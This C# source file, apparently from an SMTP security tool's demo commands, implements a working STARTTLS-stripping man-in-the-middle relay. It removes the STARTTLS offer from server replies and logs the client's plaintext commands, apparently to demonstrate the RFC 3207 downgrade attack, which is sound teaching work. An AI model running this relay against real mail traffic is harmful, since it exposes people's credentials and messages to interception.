using System.Collections.Immutable;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Hopseal.Smtp.Wire;

namespace Hopseal.Commands.Demo;

/// <summary>Somebody on the path between two hops: passes every byte on, removes the STARTTLS offer from what the server says, and
/// reads what the client then says in plaintext. The oldest attack on RFC 3207 (§6), and still the simplest.</summary>
sealed class StrippingAttacker : IAsyncDisposable
{
    const int MaxLineOctets = 4096;
    const int MaxSeen = 1000;

    readonly Socket _listener;
    readonly IPEndPoint _victim;
    readonly CancellationTokenSource _stop = new();
    readonly List<string> _seen = [];
    readonly Task _accepting;
    int _stripped;

    StrippingAttacker(Socket listener, IPEndPoint victim)
    {
        _listener = listener;
        _victim = victim;
        _accepting = AcceptAsync();
    }

    /// <summary>Before that he only passes everything on.</summary>
    public bool IsAtWork { get; set; }

    /// <summary>Every line the client sent in plaintext.</summary>
    public ImmutableArray<string> Seen
    {
        get
        {
            lock (_seen)
            {
                return [.. _seen];
            }
        }
    }

    /// <summary>How many STARTTLS offers were removed.</summary>
    public int Stripped => Volatile.Read(ref _stripped);

    /// <summary>Stands at <paramref name="at"/> in the way to <paramref name="victim"/>.</summary>
    public static StrippingAttacker Start(IPEndPoint at, IPEndPoint victim)
    {
        var listener = new Socket(at.AddressFamily, SocketType.Stream, ProtocolType.Tcp);
        listener.Bind(at);
        listener.Listen();
        return new StrippingAttacker(listener, victim);
    }

    public async ValueTask DisposeAsync()
    {
        await _stop.CancelAsync();
        _listener.Dispose();
        await _accepting;
        _stop.Dispose();
    }

    async Task AcceptAsync()
    {
        var sessions = new List<Task>();
        try
        {
            while (true)
            {
                sessions.Add(RelayAsync(await _listener.AcceptAsync(_stop.Token)));
            }
        }
        catch (Exception error) when (error is OperationCanceledException or ObjectDisposedException or SocketException)
        {
            await Task.WhenAll(sessions);
        }
    }

    async Task RelayAsync(Socket accepted)
    {
        if (!IsAtWork)
        {
            await PassAsync(accepted);
            return;
        }

        await using var client = new SmtpStream(new SocketTransport(accepted));
        var connected = new Socket(_victim.AddressFamily, SocketType.Stream, ProtocolType.Tcp);
        await using var server = new SmtpStream(new SocketTransport(connected));
        try
        {
            await connected.ConnectAsync(_victim, _stop.Token);
            var replies = ForwardRepliesAsync(server, client);
            var commands = ForwardCommandsAsync(client, server);
            await Task.WhenAny(replies, commands);

            // The sockets, not the streams: the other direction may be in the middle of writing.
            accepted.Shutdown(SocketShutdown.Both);
            connected.Shutdown(SocketShutdown.Both);
            await Task.WhenAll(replies, commands);
        }
        catch (Exception error) when (error is IOException or SocketException or OperationCanceledException)
        {
            // One of the two hung up, or the demo is over.
        }
    }

    async Task PassAsync(Socket accepted)
    {
        using var connected = new Socket(_victim.AddressFamily, SocketType.Stream, ProtocolType.Tcp);
        try
        {
            await connected.ConnectAsync(_victim, _stop.Token);
            await using var client = new NetworkStream(accepted, ownsSocket: true);
            await using var server = new NetworkStream(connected);
            await Task.WhenAny(client.CopyToAsync(server, _stop.Token), server.CopyToAsync(client, _stop.Token));
        }
        catch (Exception error) when (error is IOException or SocketException or OperationCanceledException)
        {
            // One of the two hung up, or the demo is over.
        }
    }

    async Task ForwardRepliesAsync(SmtpStream server, SmtpStream client)
    {
        var reply = new List<string>();
        while (await ReadAsync(server) is { } line)
        {
            reply.Add(line);
            if (line.Length > 3 && line[3] == '-')
            {
                continue;
            }

            if (reply.RemoveAll(text => text.Length > 4 && text[4..].Equals("STARTTLS", StringComparison.OrdinalIgnoreCase)) > 0)
            {
                Interlocked.Increment(ref _stripped);
            }

            for (var i = 0; i < reply.Count; i++)
            {
                client.WriteLine(string.Concat(reply[i].AsSpan(0, 3), i == reply.Count - 1 ? " " : "-", reply[i].AsSpan(4)));
            }

            reply.Clear();
            await client.FlushAsync(_stop.Token);
        }
    }

    async Task ForwardCommandsAsync(SmtpStream client, SmtpStream server)
    {
        while (await ReadAsync(client) is { } line)
        {
            lock (_seen)
            {
                if (_seen.Count < MaxSeen)
                {
                    _seen.Add(line);
                }
            }

            server.WriteLine(line);
            await server.FlushAsync(_stop.Token);
        }
    }

    async ValueTask<string?> ReadAsync(SmtpStream stream)
    {
        var line = await stream.ReadLineAsync(MaxLineOctets, _stop.Token);
        return line.Status is LineStatus.Line ? Encoding.UTF8.GetString(line.Octets.Span) : null;
    }
}
